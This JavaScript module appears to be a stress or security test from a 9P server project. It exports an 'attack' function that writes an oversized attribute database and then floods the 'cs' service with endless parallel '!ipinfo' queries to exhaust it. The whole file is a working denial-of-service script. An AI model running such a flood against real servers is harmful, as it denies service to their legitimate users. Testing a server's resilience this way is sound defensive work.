// The dearest questions to cs: all attributes of an ndb of 32 KiB, which the attacker wrote.
import { Topen, Twalk, Twrite } from '@net/9p'
import { forever, frame, frames, RawSession } from '../export/raw_session.mjs'

const FILES = 30
const ndb = Buffer.from('a=b '.repeat(8000))
const query = Buffer.from(`!ipinfo ${'a '.repeat(32)}`)

export async function attack({ port, begun }) {
  const one = async () => {
    const session = await RawSession.attach(port)
    session.discard().catch(() => {})
    await session.conn.write(frame(Twalk, 1, { fid: 0, newfid: 1000, wname: ['ndb'] }))
    await session.conn.write(frame(Topen, 1, { fid: 1000, mode: 1 }))
    for (let at = 0; at < ndb.byteLength; at += 8000) {
      const data = ndb.subarray(at, at + 8000)
      await session.conn.write(frame(Twrite, 1, { fid: 1000, offset: BigInt(at), data }))
    }
    await session.conn.write(frames(FILES, (i) => frame(Twalk, i, { fid: 0, newfid: i + 1, wname: ['cs'] })))
    await session.conn.write(frames(FILES, (i) => frame(Topen, i, { fid: i + 1, mode: 2 })))
    begun()
    const asks = frames(FILES, (i) => frame(Twrite, i, { fid: i + 1, offset: 0n, data: query }))
    for (;;) await session.conn.write(asks)
  }
  await Promise.all(Array.from({ length: 4 }, () => forever(one)))
}
